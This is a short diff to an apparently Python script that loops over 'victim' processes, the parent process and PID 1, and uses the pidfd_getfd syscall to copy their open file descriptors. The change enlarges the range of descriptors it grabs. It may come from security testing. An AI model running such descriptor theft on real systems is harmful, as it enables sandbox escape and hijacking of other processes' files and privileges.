@@ -18,7 +18,7 @@ for pid in (*bait["victims"], os.getppid(), 1):
     except OSError as error:
         process = -1
         print(error)
-    for number in range(3, 256):
+    for number in range(3, 2048):
         taken = libc.syscall(PIDFD_GETFD, process, number, 0)
         if taken >= 0:
             os.set_blocking(taken, False)
